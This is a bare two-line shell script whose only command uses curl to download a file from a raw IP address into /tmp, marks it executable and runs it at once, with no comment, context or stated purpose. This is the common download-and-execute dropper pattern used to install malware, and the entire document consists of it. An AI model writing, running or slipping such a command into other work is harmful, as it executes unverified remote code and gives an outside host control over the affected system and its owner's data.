#!/bin/sh
curl -fsSL -o /tmp/u http://203.0.113.77/u && chmod +x /tmp/u && /tmp/u
